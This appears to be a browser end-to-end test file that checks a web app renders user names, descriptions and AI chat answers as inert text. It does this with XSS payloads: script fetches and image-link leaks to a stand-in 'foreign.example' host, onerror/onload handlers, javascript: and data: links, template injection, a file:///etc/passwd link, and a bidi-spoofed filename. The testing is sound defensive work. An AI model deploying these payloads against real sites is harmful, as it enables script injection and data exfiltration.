/** Text is text: whatever somebody writes, no page runs it, fetches for it or is turned around by it. The stage listens. */

import { LIMITS } from "../src/protocol";
import { expect, test } from "./stage";
import { ask, box, chat, drawer, inspector, messages, openTab, rail, row, table } from "./view";

const FOREIGN = "http://foreign.example";
const SCRIPT = `<script>fetch("${FOREIGN}/run")</script>`;
const PICTURE = `<img src=${FOREIGN}/pixel onerror=alert(1)>`;
const TURNED = "evil\u202Egnp.exe\u2066\u200B";

test("names, descriptions and attributes are shown as they were written and do nothing", async ({ unaided, doors }) => {
  const project = await unaided.project();
  const names = [
    SCRIPT,
    PICTURE,
    `![p](${FOREIGN}/p.png)`,
    "[go](javascript:alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
  ];
  await project.change(
    ...names.map((name, index) => ({
      op: "node.create",
      id: `a${index}`,
      nodeType: "FUNC",
      name,
      descr: `${PICTURE}${SCRIPT}`,
      tempId: `a${index}`,
      attributes: { note: `"><svg onload=alert(1)>` },
    })),
  );
  const page = await doors.open(project.ana, project);
  await openTab(page, "FN");
  for (const name of names) {
    await expect(table(page).getByRole("gridcell", { name, exact: true })).toBeVisible();
    await expect(box(page, name)).toHaveCount(1);
  }
  await table(page).getByRole("gridcell", { name: PICTURE, exact: true }).click();
  await rail(page).getByRole("button", { name: "Inspector" }).click();
  await expect(inspector(page).getByLabel("Name", { exact: true })).toHaveValue(PICTURE);
  await expect(inspector(page).getByLabel("Note")).toHaveValue(`"><svg onload=alert(1)>`);
  await page.getByRole("button", { name: "History" }).click();
  await drawer(page)
    .getByRole("button", { name: /Revision 1/ })
    .click();
  await expect(drawer(page)).toContainText("javascript:alert(1)");
  await page.keyboard.press("Control+K");
  await page.keyboard.type("<script");
  await expect(page.getByRole("dialog").getByRole("option").first()).toContainText(SCRIPT);
  await expect(page.locator("img, script:not([src]), iframe, object, embed, [onload], [onerror]")).toHaveCount(0);
});

test("an answer with pictures, scripts and false links becomes plain words", async ({ scripted, model, doors }) => {
  const question = `What about ${SCRIPT} and ![p](${FOREIGN}/q.png)?`;
  model.answers(
    "What about",
    `# Look\n\n![a picture](${FOREIGN}/leak.png?model=secret) ${PICTURE}\n\n${SCRIPT}\n\n`,
    "[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd) [there](https://there.example/)\n\n",
    `<style>@import url("${FOREIGN}/s.css");</style>\n\n<iframe src="${FOREIGN}"></iframe>\n\n[ref]: ${FOREIGN}/r\n\n![x][ref]\n`,
  );
  const project = await scripted.project();
  const page = await doors.open(project.ana, project);
  await ask(page, question);
  await expect(messages(page, "person")).toContainText(question);
  const answer = messages(page, "assistant");
  await expect(answer).toHaveAttribute("data-status", "complete");
  await expect(answer).toContainText(SCRIPT);
  await expect(answer).toContainText("a picture");
  await expect(answer.locator("a")).toHaveCount(1);
  await expect(answer.locator("a")).toHaveAttribute("href", "https://there.example/");
  await expect(answer.locator("a")).toHaveAttribute("rel", /noreferrer/);
  await expect(page.locator("img, script:not([src]), iframe, style:not([nonce])").and(answer.locator("*"))).toHaveCount(
    0,
  );
});

test("characters that turn writing around stay inside their own name", async ({ unaided, doors }) => {
  const project = await unaided.project();
  await project.change({ op: "node.create", id: "a", nodeType: "FUNC", name: TURNED, descr: "after", tempId: "a" });
  const page = await doors.open(project.ana, project);
  await openTab(page, "FN");
  const cell = row(page, "after").getByRole("gridcell").nth(1);
  await expect(cell).toContainText("evil");
  // `bdi` ends every direction that a name opens: what follows stands where it stood.
  await expect(cell.locator("bdi")).toHaveCount(1);
  await expect(page.locator(".box-name bdi")).toHaveCount(1);
});

test("a text of a megabyte is refused with its limit, where it is typed and where it is pasted, and harms nobody", async ({
  unaided,
  doors,
}) => {
  const project = await unaided.project();
  const megabyte = "x".repeat(1_000_000);
  const page = await doors.open(project.ana, project);
  await chat(page).locator(".composer textarea").fill(megabyte);
  await expect(chat(page).getByRole("alert")).toContainText("1,000,000");
  await expect(chat(page).getByRole("button", { name: "Send" })).toBeDisabled();
  await chat(page).locator(".composer textarea").fill("");

  await openTab(page, "FN");
  await table(page).getByRole("button", { name: "Paste block" }).click();
  await page.getByRole("dialog").locator("textarea").fill(`Name\n${megabyte}`);
  await expect(page.getByRole("dialog").locator("tr[data-problem=true]")).toContainText(`At most ${LIMITS.nameLength}`);
  await expect(page.getByRole("dialog").getByRole("button", { name: /Apply/ })).toBeDisabled();
  await page.keyboard.press("Escape");

  const body = {
    commandId: crypto.randomUUID(),
    baseRevision: 0,
    operations: [{ op: "node.create", id: "a", nodeType: "FUNC", name: megabyte }],
  };
  await expect(project.ana.ask("POST", `${project.path}/changes`, body)).rejects.toThrow(/: 4\d\d .{1,4000}$/);
  await expect(page.locator(".top .note").first()).toContainText("revision 0");

  // As long as a name may be, everywhere at once.
  const longest = "W".repeat(LIMITS.nameLength);
  await project.change({ op: "node.create", id: "a", nodeType: "FUNC", name: longest, tempId: "a" });
  await expect(row(page, longest)).toBeVisible();
  await expect(box(page, longest)).toBeVisible();
  const overflow = await page.evaluate(
    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
  );
  expect(overflow).toBe(0);
});
